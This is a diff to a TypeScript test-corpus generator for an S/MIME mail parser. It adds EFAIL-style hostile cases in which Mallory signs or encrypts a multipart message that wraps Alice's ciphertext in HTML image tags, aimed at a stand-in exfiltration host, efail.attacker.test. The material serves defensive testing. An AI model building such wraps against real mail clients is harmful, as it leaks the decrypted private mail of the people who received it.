@@ -8,7 +8,7 @@ import type { CryptoLike } from '../../src/core/crypto'
 import { opensslEncrypt } from '../interop/harness/openssl-cms'
 import { crlf } from '../interop/harness/eml'
 import type { CorpusPki } from './pki'
-import { encryptedEntity, envelope, html, message, multipart, randomSecret, rfc822, secretEntity } from './mime'
+import { encryptedEntity, envelope, html, message, multipart, randomSecret, rfc822, secretEntity, signedEntity } from './mime'
 import type { HostileCase } from './types'
 
 const EXFIL = 'http://efail.attacker.test/'
@@ -55,6 +55,26 @@ export async function efailCases(pki: CorpusPki, crypto: CryptoLike, dir: string
     description: 'OpenSSL-made ciphertext between <img src=" and "> in multipart/mixed.',
     raw: message(envelope(`Alice <${pki.alice.email}>`, 'Re: Launch'), multipart('mixed', [html(EXFIL_WRAPS.img![0]), sslEntity, html(EXFIL_WRAPS.img![1])])),
     expected: { signature: 'none', encryption: 'none', secrets: [secret2], embedded: 1 },
+  })
+  // The attacker signs the wrap with her own valid certificate: her signature is honest
+  // (valid for mallory@evil.test), but Alice's ciphertext inside stays sealed.
+  const wrap = multipart('mixed', [html(EXFIL_WRAPS.img![0]), enc, html(EXFIL_WRAPS.img![1])])
+  cases.push({
+    name: 'efail-inside-attacker-signature',
+    attack: 'efail-direct',
+    description: 'Mallory signs (validly) a multipart/mixed holding Alice\'s ciphertext between <img src=" and ">.',
+    raw: message(envelope(`Mallory <${pki.mallory.email}>`, 'Re: Launch'), await signedEntity(wrap, pki.mallory, crypto)),
+    expected: { signature: 'valid', encryption: 'none', secrets: [secret], embedded: 1, signerEmail: pki.mallory.email },
+  })
+  // The attacker encrypts the wrap to Bob: the ROOT decrypts (her layer), the victim's
+  // ciphertext inside it is a non-root part and stays sealed.
+  const outer = await encryptedEntity(wrap, [pki.bob.certificate], 'aes-256-gcm', crypto)
+  cases.push({
+    name: 'efail-inside-attacker-encryption',
+    attack: 'efail-direct',
+    description: 'Mallory encrypts to Bob a multipart/mixed holding Alice\'s ciphertext between <img src=" and ">: only Mallory\'s root layer is opened.',
+    raw: message(envelope(`Mallory <${pki.mallory.email}>`, 'Re: Launch'), outer.entity),
+    expected: { signature: 'none', encryption: 'decrypted', secrets: [secret], embedded: 1 },
   })
   return cases
 }
